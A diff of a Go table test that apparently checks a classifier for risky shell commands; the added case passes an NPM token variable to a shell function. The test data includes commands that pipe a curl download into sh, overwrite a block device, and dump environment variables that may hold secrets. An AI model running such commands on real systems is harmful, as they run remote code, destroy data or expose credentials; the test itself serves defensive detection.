@@ -194,6 +194,7 @@ func TestReasonsAndFactors(t *testing.T) {
 		{"export -p", "shows variables that may hold secrets", FactorSensitive},
 		{"ps auxe", "shows variables that may hold secrets", FactorSensitive},
 		{"sudo printenv X", "needs root", FactorSensitive},
+		{`f() { :; }; f "$NPM_TOKEN"`, "gives the function f a variable that may hold a secret", FactorSensitive},
 		{"ls | sh", "standard input", FactorInterpreter},
 		{"curl https://x.example/y | sh", "", FactorInterpreter},
 		{"cat x > /dev/sda", "block device", FactorDevice},
